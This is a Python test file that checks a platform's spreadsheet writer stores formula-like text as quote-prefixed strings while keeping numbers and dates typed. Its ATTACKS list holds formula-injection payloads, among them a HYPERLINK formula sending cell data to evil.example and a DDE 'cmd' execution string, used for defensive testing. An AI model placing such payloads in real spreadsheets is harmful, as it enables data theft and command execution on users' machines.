"""The one spreadsheet writer: a text that a spreadsheet program would run as a formula is written as text (a
string cell with Excel's quote prefix), numbers and dates stay numbers and dates, and no module of the platform
makes a workbook except through it."""

from __future__ import annotations

import datetime as dt
import io
import re
import zipfile
from pathlib import Path
from typing import Any

import openpyxl

from grassroots.ui import xlsx

ATTACKS = ['=HYPERLINK("http://evil.example/?d="&B2,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "=1+1"]


def written(*rows: list[Any]) -> bytes:
    wb = xlsx.new_workbook()
    xlsx.add_sheet(wb, "T", ["A", "B", "C", "D"], rows, first=True)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def formulas(data: bytes) -> list[str]:
    """Every <f> (formula) element of every sheet of an .xlsx."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return [f for name in z.namelist() if name.startswith("xl/worksheets/")
                for f in re.findall(r"<f[ >].*?</f>|<f/>", z.read(name).decode())]


def assert_text_cells(data: bytes, texts: list[str]) -> None:
    """Each of `texts` is in a string cell with the quote prefix, and no cell holds a formula."""
    assert formulas(data) == []
    wb = openpyxl.load_workbook(io.BytesIO(data))
    found = {c.value: c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None}
    for text in texts:
        cell = found[text]  # the text unchanged: an export re-imports as it was
        assert cell.data_type == "s" and cell.quotePrefix, (text, cell.data_type)


def test_every_formula_start_is_written_as_text() -> None:
    data = written(ATTACKS[:4], ATTACKS[4:])
    assert_text_cells(data, ATTACKS)


def test_numbers_dates_and_plain_text_stay_what_they_are() -> None:
    day, moment = dt.date(2024, 3, 1), dt.datetime(2024, 3, 1, 9, 30)
    data = written([-5, 3.25, day, moment], ["李明", "a=b", "", None])
    ws = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    cells = {c.coordinate: c for row in ws.iter_rows(min_row=2) for c in row}
    assert (cells["A2"].value, cells["A2"].data_type) == (-5, "n")  # a real negative number is no formula
    assert (cells["B2"].value, cells["C2"].value, cells["D2"].value) == (3.25, dt.datetime(2024, 3, 1), moment)
    assert cells["C2"].is_date and cells["C2"].number_format == "yyyy-mm-dd"
    assert (cells["A3"].value, cells["A3"].quotePrefix) == ("李明", False)
    assert (cells["B3"].value, cells["B3"].quotePrefix) == ("a=b", False)


def test_characters_xml_forbids_are_dropped_rather_than_failing_the_export() -> None:
    data = written(["a\x01b\x0bc", "line\nbreak", "\x00=1+1", "ok"])
    ws = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    assert [c.value for c in ws[2]] == ["abc", "line\nbreak", "=1+1", "ok"]
    assert ws["C2"].data_type == "s" and ws["C2"].quotePrefix and formulas(data) == []


def test_append_writes_rows_in_order_through_put() -> None:
    wb = xlsx.new_workbook()
    ws = wb.active
    assert [xlsx.append(ws, ["=1"]), xlsx.append(ws, []), xlsx.append(ws, [2])] == [1, 2, 3]
    assert [c.value for row in ws.iter_rows() for c in row] == ["=1", None, 2]
    assert ws["A1"].data_type == "s"


def test_no_module_makes_a_workbook_but_the_one_writer() -> None:
    root = Path(xlsx.__file__).resolve().parents[1]
    own = Path(xlsx.__file__).resolve()
    pattern = re.compile(r"\bWorkbook\(|import Workbook|csv\.(writer|DictWriter)\b")
    offenders = [f"{path.relative_to(root)}:{number}: {line.strip()}"
                 for path in root.rglob("*.py") if "tests" not in path.parts and path.resolve() != own
                 for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1)
                 if pattern.search(line)]
    assert offenders == [], "write spreadsheets through grassroots.ui.xlsx (put, append, add_sheet)"
